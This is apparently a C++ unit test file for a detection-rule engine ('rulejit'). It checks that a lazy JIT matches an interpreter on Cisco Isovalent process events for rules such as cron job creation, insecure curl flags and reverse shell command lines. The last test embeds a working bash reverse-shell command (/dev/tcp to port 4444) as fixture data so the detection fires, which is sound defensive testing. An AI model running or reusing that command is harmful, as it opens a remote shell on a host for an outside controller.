// Lazy views: the JIT's first pass reads only the fields of each rule's first
// condition (its "eager" views); a field that only a later condition reads is
// fetched when that condition runs. Results never change.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "engine_test_util.h"

namespace rulejit {
namespace {

using namespace engine_test;

const std::string kCron = kRepo + "/rules/isovalent/cisco_isovalent___cron_job_creation.yml";

TEST(LazyViews, OnlyTheFirstConditionsFieldsAreEager) {
  // Cron Job Creation: process_name IN (...) then pod_name!="". Its first
  // condition reads process.binary; pod.name is read on demand.
  const ExecViews v = exec_views({kCron});
  EXPECT_EQ(v.names, (std::vector<std::string>{"process_exec.process.binary", "process_exec.process.pod.name"}));
  EXPECT_EQ(v.eager, 1u);
}

std::string exec_event(const std::string& binary, const std::string& pod_json, int pid) {
  return R"({"process_exec":{"process":{"pid":)" + std::to_string(pid) + R"(,"binary":")" + binary +
         R"(","pod":)" + pod_json + R"(},"parent":{"binary":"/usr/sbin/runc"}},"node_name":"n1",)"
         R"("time":"2025-08-14T20:42:47.459945318Z","cluster_name":"c1"})";
}

TEST(LazyViews, ResultsEqualTheInterpretersAndUnreadFieldsStayUnread) {
  const std::string input = exec_event("/usr/sbin/cron", R"({"name":"web-1"})", 1) + "\n" +    // match
                            exec_event("/usr/sbin/cron", R"({"namespace":"x"})", 2) + "\n" +  // no pod name
                            exec_event("/usr/sbin/crond", R"({"name":""})", 3) + "\n" +       // empty pod name
                            exec_event("/bin/ls", "{\"name\":\"\xff\"}", 4) + "\n" +          // 4: bad UTF-8
                            exec_event("/usr/sbin/crontab", R"({"name":"db-0"})", 5) + "\n";  // match
  Outcome interp = run("interp", input, {kCron});
  Outcome lazy = run("jit", input, {kCron});
  Outcome strict = run("jit", input, {kCron}, true);
  EXPECT_EQ(interp.rows.size(), 2u);
  EXPECT_EQ(lazy.rows, interp.rows);
  EXPECT_EQ(strict.rows, interp.rows);
  // Line 4's pod.name is not UTF-8: the interpreter and a validating JIT
  // report it; the lazy JIT stopped after the binary (not cron) and never
  // looked at it.
  ASSERT_EQ(interp.stats.read.problems.size(), 1u);
  EXPECT_EQ(interp.stats.read.problems[0].line, 4u);
  ASSERT_EQ(strict.stats.read.problems.size(), 1u);
  EXPECT_EQ(strict.stats.read.problems[0].line, 4u);
  EXPECT_TRUE(lazy.stats.read.problems.empty());
}

TEST(LazyViews, EventsRoutedBySourcetypeGetTheirLazyFieldsToo) {
  auto pack = pack_of({kCron});
  for (const std::string engine : {"interp", "jit"}) {
    std::vector<std::string> rows;
    rt::EngineOptions eo;
    eo.now = 1755200000;
    std::string err;
    auto eng = make_engine(engine, pack, eo,
                           [&](uint32_t, const ir::Plan& plan, const rt::Row& row) {
                             rows.push_back(rt::format_result_json("r", "", plan, row));
                           },
                           &err);
    ASSERT_TRUE(eng) << err;
    std::string buf;
    for (const auto& ev : {exec_event("/usr/sbin/cron", R"({"name":"web-1"})", 1),
                           exec_event("/usr/sbin/cron", R"({"namespace":"x"})", 2)})
      eng->push_routed(rt::padded_line(buf, ev, "t"), "cisco:isovalent:processExec");
    eng->finish();
    ASSERT_EQ(rows.size(), 1u) << engine;
    EXPECT_NE(rows[0].find("web-1"), std::string::npos) << rows[0];
  }
}


// `regex process=...` ending the filters of Curl Execution With Insecure
// Flags runs inline; `process` (binary + arguments) is derived from a
// partial read, so a curl event it rejects is never read in full.
std::string curl_event(const std::string& arguments, int pid, const std::string& node = "n1") {
  std::string args = arguments.empty() ? "" : R"(,"arguments":")" + arguments + "\"";
  return R"({"process_exec":{"process":{"pid":)" + std::to_string(pid) + R"(,"binary":"/usr/bin/curl")" + args +
         R"(,"pod":{"name":"web-1"}},"parent":{"binary":"/bin/sh"}},"node_name":")" + node +
         R"(","time":"2025-08-14T20:42:47.459945318Z","cluster_name":"c1"})";
}

TEST(LazyViews, FieldRegexRunsInlineOnAPartialRead) {
  const std::vector<std::string> rules = {kRepo +
                                          "/rules/isovalent/cisco_isovalent___curl_execution_with_insecure_flags.yml"};
  const std::string input = curl_event("-k https://x", 1) + "\n" +                   // match
                            curl_event("--silent https://x", 2) + "\n" +             // no insecure flag
                            curl_event("", 3) + "\n" +                               // no arguments
                            curl_event("--silent https://y", 4, "n\xff") + "\n" +    // 4: bad UTF-8 later
                            curl_event("--insecure https://z", 5) + "\n" +           // match
                            exec_event("/usr/bin/wget", R"({"name":"a"})", 6) + "\n";
  Outcome interp = run("interp", input, rules);
  Outcome lazy = run("jit", input, rules);
  Outcome strict = run("jit", input, rules, true);
  ASSERT_EQ(interp.rows.size(), 2u);  // one group per pid
  EXPECT_EQ(lazy.rows, interp.rows);
  EXPECT_EQ(strict.rows, interp.rows);
  ASSERT_EQ(interp.stats.read.problems.size(), 1u);
  EXPECT_EQ(interp.stats.read.problems[0].line, 4u);
  ASSERT_EQ(strict.stats.read.problems.size(), 1u);
  EXPECT_TRUE(lazy.stats.read.problems.empty());  // rejected by the regex before any full read
}

// A folder of rule files for one test, removed afterwards.
struct TempRules {
  std::filesystem::path dir = std::filesystem::temp_directory_path() /
                              ("rulejit-lazy-" + std::to_string(::getpid()) + "-" + std::to_string(counter()++));
  TempRules() { std::filesystem::create_directories(dir); }
  ~TempRules() {
    std::error_code ec;
    std::filesystem::remove_all(dir, ec);
  }
  std::string write(const std::string& name, const std::string& text) const {
    std::ofstream(dir / name) << text;
    return (dir / name).string();
  }
  static int& counter() {
    static int n = 0;
    return n;
  }
};

TEST(LazyViews, InlineRegexCountsTheInterpretersEvalErrors) {
  // A regex that backtracks past PCRE2's match limit on one event: an eval
  // error, and the event is dropped, under both executors.
  TempRules dir;
  const std::string rule = dir.write(
      "slow_regex.yml", "name: Slow Regex\nid: slow-regex\nsearch: '`cisco_isovalent_process_exec` process_name=curl "
                        "| regex process=\"(a+)+$\" | table process'\n");
  // Not ASCII, so the Hyperscan prefilter leaves it to PCRE2 (policy.h).
  const std::string input = curl_event(std::string(40, 'a') + "\xC3\xA9", 1) + "\n" +  // hits the limit
                            curl_event("ok", 2) + "\n" +                         // no match
                            curl_event("aaa", 3) + "\n" +                        // match
                            exec_event("/bin/ls", R"({"name":"a"})", 4) + "\n";
  Outcome interp = run("interp", input, {rule});
  Outcome jit = run("jit", input, {rule});
  ASSERT_EQ(interp.stats.rules.size(), 1u);
  ASSERT_EQ(jit.stats.rules.size(), 1u);
  EXPECT_EQ(interp.rows.size(), 1u);
  EXPECT_EQ(jit.rows, interp.rows);
  EXPECT_EQ(interp.stats.rules[0].eval_errors, 1u);
  EXPECT_EQ(jit.stats.rules[0].eval_errors, 1u);
}

TEST(LazyViews, InlineRegexSeesConstantsAndTheRawEvent) {
  // sourcetype is a constant of the field map and _raw the event text: the
  // inline regex must see them as the interpreter does.
  TempRules dir;
  const std::string on_constant = dir.write(
      "st.yml", "name: Regex On Sourcetype\nid: rx-st\nsearch: '`cisco_isovalent_process_exec` "
                "| regex sourcetype=\"processExec$\" | table process_name'\n");
  const std::string on_raw = dir.write(
      "raw.yml", "name: Regex On Raw\nid: rx-raw\nsearch: '`cisco_isovalent_process_exec` "
                 "| regex _raw=\"insecure\" | table process_name'\n");
  const std::string on_missing = dir.write(
      "none.yml", "name: Regex On Missing\nid: rx-none\nsearch: '`cisco_isovalent_process_exec` "
                  "| regex no_such_field=\".*\" | table process_name'\n");
  const std::string input = curl_event("--insecure https://z", 1) + "\n" + curl_event("-s", 2) + "\n";
  for (const auto& [rule, expected] : std::vector<std::pair<std::string, size_t>>{
           {on_constant, 2}, {on_raw, 1}, {on_missing, 0}}) {
    Outcome interp = run("interp", input, {rule});
    Outcome jit = run("jit", input, {rule});
    EXPECT_EQ(interp.rows.size(), expected) << rule;
    EXPECT_EQ(jit.rows, interp.rows) << rule;
  }
}

TEST(LazyViews, EventsARulesEarlyStagesDropAreNotReadInFull) {
  // Reverse Shell Command Line has no search filter: its first stages
  // (urldecode(process), two regexes) run on a partial read of the binary and
  // arguments; only the events they keep are read in full. Line 2 has bad
  // UTF-8 after those fields: the interpreter reports it, the JIT never
  // reads that far. Results are the same.
  const std::string kReverse = kRepo + "/rules/isovalent/cisco_isovalent___reverse_shell_command_line.yml";
  const auto event = [](const std::string& args, const std::string& node) {
    return R"({"process_exec":{"process":{"pid":1,"binary":"/bin/bash","arguments":")" + args +
           R"("},"parent":{"binary":"/usr/sbin/runc"}},"node_name":")" + node +
           R"(","time":"2025-08-14T20:42:47.459945318Z","cluster_name":"c1"})" + "\n";
  };
  const std::string input = event("-c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'", "n1") +  // kept
                            event("-c ls", "n\xff") +                                       // dropped early
                            event("-c ls", "n1");
  Outcome interp = run("interp", input, {kReverse});
  Outcome jit = run("jit", input, {kReverse});
  ASSERT_EQ(interp.rows.size(), 1u);
  EXPECT_EQ(jit.rows, interp.rows);
  ASSERT_EQ(interp.stats.read.problems.size(), 1u);
  EXPECT_EQ(interp.stats.read.problems[0].line, 2u);
  EXPECT_TRUE(jit.stats.read.problems.empty());
}

}  // namespace
}  // namespace rulejit
